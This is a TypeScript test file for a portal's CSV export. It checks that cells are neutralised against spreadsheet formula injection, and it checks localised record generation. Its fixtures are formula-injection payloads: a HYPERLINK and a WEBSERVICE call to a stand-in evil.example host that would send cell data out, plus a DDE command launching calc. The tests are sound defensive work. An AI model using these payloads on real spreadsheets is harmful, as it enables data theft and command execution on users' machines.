import { describe, expect, it } from 'vitest';
import { languageFile } from '../../tests/support/collectionFixtures';
import type { Locale } from '../i18n/locales';
import { groupEntries, viewOf, type LocalizedEntry } from './localizedEntries';
import { csvCell, csvColumns, opportunityRecord, opportunityRecordsFrom, toCsv } from './openData';

describe('csvCell()', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","Click")', `"'=HYPERLINK(""http://evil.example"",""Click"")"`],
    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises %j, which a spreadsheet would read as a formula', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('leaves ordinary text, numbers and empty values as they are', () => {
    expect(csvCell('Khu đô thị mới Giới Phiên')).toBe('Khu đô thị mới Giới Phiên');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(['=1+1', 'b'])).toBe("'=1+1 | b");
  });
});

describe('toCsv()', () => {
  const record = opportunityRecord({
    slug: 'tea-factory',
    url: 'https://portal.example/en/invest/opportunities/tea-factory/',
    language: 'en',
    facts: {
      sector: 'agro-processing',
      place: 'van-chan',
      form: 'direct',
      status: 'calling',
      lastVerified: new Date('2026-11-26'),
      draft: false,
      redirectFrom: [],
      illustrative: false,
      sources: [{ title: 'A source', url: 'https://example.org/a' }],
    },
    words: {
      title: '=WEBSERVICE("https://evil.example/"&A1)',
      description: '@cmd a description that starts with an at sign',
      incentives: ['-50% land rent'],
      acceptedWarnings: [],
    },
    sectorName: 'Agro-processing',
    placeName: 'Văn Chấn',
    labels: { form: 'Direct investment', status: 'Calling for investors' },
  });

  it('writes no cell that starts a formula, while the JSON record keeps the text as written', () => {
    const [, row] = toCsv([record])
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    const cells = Object.fromEntries(csvColumns.map((c, i) => [c, row!.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)![i]!.replace(/,$/, '')]));
    expect(cells.title).toBe(`"'=WEBSERVICE(""https://evil.example/""&A1)"`);
    expect(cells.description).toBe("'@cmd a description that starts with an at sign");
    expect(cells.incentives).toBe("'-50% land rent");
    expect(record.title).toBe('=WEBSERVICE("https://evil.example/"&A1)');
  });
});

describe('opportunityRecordsFrom()', () => {
  const source = [{ title: 'A public source', url: 'https://example.org/source' }];
  const entries = groupEntries(
    'opportunities',
    [
      languageFile('opportunities', 'tea-factory/vi', {
        title: 'Nhà máy chè',
        description: 'Dự án nhà máy chế biến chè Shan tuyết.',
        sector: 'agro-processing',
        place: 'van-chan',
        form: 'direct',
        status: 'calling',
        lastVerified: new Date('2026-11-26'),
        capitalVnd: 250_000_000_000,
        exchangeRate: { vndPerUsd: 25_000, date: new Date('2026-01-02') },
        sources: source,
      }),
      languageFile('opportunities', 'tea-factory/en', {
        title: 'Tea factory',
        description: 'A factory processing Shan tuyết tea.',
        incentives: ['Land rent exemption'],
      }),
    ],
    { now: new Date('2026-12-07'), showUnpublished: false },
  );
  const names = {
    sectors: [{ id: 'agro-processing', data: { name: { vi: 'Chế biến nông sản', en: 'Agro-processing', fr: 'Agro-industrie' } } }],
    places: [{ id: 'van-chan', data: { name: { vi: 'huyện Văn Chấn', en: 'Văn Chấn district' } } }],
  };
  const view = (entry: LocalizedEntry<'opportunities'>, locale: Locale) => viewOf(entry, locale, () => undefined);

  it('writes the record in the reader’s language where it can, with absolute addresses and the capital in USD', () => {
    const labels: Record<string, string> = { 'form.direct': 'Investissement direct', 'status.calling': 'Appel aux investisseurs' };
    const [record] = opportunityRecordsFrom(entries, names, 'fr', new URL('https://portal.example.gov.vn'), view, (key) => labels[key]!);
    expect(record).toMatchObject({
      id: 'tea-factory',
      url: 'https://portal.example.gov.vn/fr/invest/opportunities/tea-factory/',
      language: 'en',
      title: 'Tea factory',
      sectorName: 'Agro-industrie',
      placeName: 'Văn Chấn district',
      capitalUsd: 10_000_000,
      formLabel: 'Investissement direct',
      statusLabel: 'Appel aux investisseurs',
      incentives: ['Land rent exemption'],
      sources: ['https://example.org/source'],
    });
  });
});
